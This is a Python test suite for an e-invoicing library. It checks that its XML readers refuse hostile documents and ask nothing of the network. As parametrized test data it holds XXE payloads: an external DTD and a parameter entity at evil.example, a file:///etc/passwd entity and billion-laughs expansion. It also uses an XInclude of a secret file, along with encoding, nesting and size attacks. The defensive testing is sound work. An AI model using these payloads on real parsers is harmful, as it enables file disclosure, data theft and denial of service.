"""Hostile XML at the door of each reader: one clear refusal, nothing fetched, nothing else broken."""

import socket
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guilder.kernel.document import Tax
from guilder.kernel.errors import Invalid
from guilder.papers.exchange.check import check_all
from guilder.papers.exchange.formats.writing import write
from guilder.papers.exchange.reading import read
from tests.papers.exchange import full
from tests.papers.exchange.test_writing import paper
from tests.stories.running import is_full_size

SECRET = "a secret that no reader may tell"
polish = replace(
    paper(),
    seller=replace(full.DOCUMENT.seller, vat_id="PL5213003700"),
    lines=(replace(paper().lines[0], tax=Tax(category="S", rate=Decimal(23))),),
)
DOORS = {
    "ubl": write(paper(), "ubl"),
    "ubl-creditnote": write(paper(type_code="381"), "ubl"),
    "cii": write(paper(), "cii"),
    "fatturapa": write(polish, "fatturapa"),
    "ksef": write(polish, "ksef"),
}
HEAD = b'<?xml version="1.0" encoding="UTF-8"?>\n'
EACH = pytest.mark.parametrize("door", DOORS)


@pytest.fixture(autouse=True)
def offline(monkeypatch):
    """Whoever asks the network fails the test."""

    def refused(*_args, **_more):
        raise AssertionError("a reader asked the network")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(socket, "getaddrinfo", refused)


def body(door: str) -> bytes:
    return DOORS[door].removeprefix(HEAD)


def refusal(data: bytes) -> Invalid:
    with pytest.raises(Invalid) as caught:
        read(data)
    assert len(caught.value.detail) < 300
    assert SECRET not in str(caught.value.detail)
    return caught.value


@EACH
@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        b'<!doctype x [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
        b'<!-- a --><?p?>  <!DOCTYPE x [<!ATTLIST x a CDATA "b">]>',
    ],
    ids=["dtd", "file", "laughs", "parameter", "after-comment"],
)
def test_a_document_type_is_refused(door: str, doctype: bytes):
    assert refusal(HEAD + doctype + body(door)).code == "xml.doctype"


@EACH
def test_a_file_that_is_included_is_not_read(door: str, tmp_path: Path):
    told = tmp_path / "told"
    told.write_text(SECRET)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{told}" parse="text"/>'
    data = DOORS[door].replace(b"BT-153", include.encode())

    reading = read(data)

    assert SECRET not in str(reading)


@EACH
def test_a_schema_of_the_file_is_not_asked(door: str):
    place = b' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://evil.example http://evil.example/x.xsd" xsi:noNamespaceSchemaLocation="http://evil.example/y.xsd"'
    start = body(door)
    end = start.index(b">")
    data = HEAD + start[:end] + place + start[end:]

    assert read(data).document == read(DOORS[door]).document


@EACH
@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "utf-8-sig"])
def test_encodings_with_a_mark_are_read_alike(door: str, encoding: str):
    assert read(body(door).decode().encode(encoding)).document == read(DOORS[door]).document


@EACH
@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b'<?xml version="1.0" encoding="UTF-7"?>', "xml.encoding"),
        (b'<?xml version="1.0" encoding="EBCDIC-CP-US"?>', "xml.encoding"),
        (HEAD + b"<!-- \xff\xfe -->", "xml.encoding"),
        (HEAD + b"\x00", "xml.malformed"),
    ],
    ids=["utf-7", "ebcdic", "lie", "null"],
)
def test_encodings_that_lie_are_refused(door: str, data: bytes, code: str):
    assert refusal(data + body(door)).code == code


@EACH
def test_deep_nesting_is_refused(door: str):
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    data = DOORS[door].replace(b"BT-153", deep)

    assert refusal(data).code == "xml.too_deep"


@EACH
def test_a_hundred_megabytes_are_refused_unread(door: str):
    data = DOORS[door] + b" " * (100 << 20)

    assert refusal(data).code == "exchange.too_large"


@EACH
def test_a_long_text_is_refused(door: str):
    data = DOORS[door].replace(b"BT-153", b"x" * (11 << 20))

    assert refusal(data).code == "xml.too_large"


@pytest.mark.parametrize(
    ("door", "old", "new"),
    [
        ("ubl", b">false<", b">no<"),
        ("cii", b">false<", b">perhaps<"),
        ("ubl", b">10</cbc:PriceAmount>", b">1e9999999</cbc:PriceAmount>"),
        ("cii", b">10</ram:ChargeAmount>", b">NaN</ram:ChargeAmount>"),
        ("fatturapa", b"<Quantita>10.00<", b"<Quantita>" + b"9" * 400 + b"<"),
        ("ksef", b"<P_8B>10<", b"<P_8B>--1<"),
    ],
)
def test_values_that_end_other_programs_are_faults(door: str, old: bytes, new: bytes):
    source = DOORS[door]
    if old == b">false<":
        line = replace(
            paper().lines[0], allowances=(full.Allowance(amount=full.eur("1.00"), reason="r"),)
        )
        source = write(paper(lines=(line,)), door)
    assert old in source

    checked = check_all(source.replace(old, new, 1))[0]

    assert not checked.ok
    assert checked.problems


@EACH
@settings(
    max_examples=5000 if is_full_size() else 60,
    deadline=None,
    database=None,
    suppress_health_check=list(HealthCheck),
)
@given(changes=st.lists(st.tuples(st.integers(0), st.binary(max_size=6)), min_size=1, max_size=4))
def test_a_damaged_file_is_read_or_refused_and_nothing_else(door: str, changes):
    data = bytearray(DOORS[door])
    for place, piece in changes:
        at = place % len(data)
        data[at : at + len(piece)] = piece

    for one in check_all(bytes(data)):
        assert one.kind or one.problems
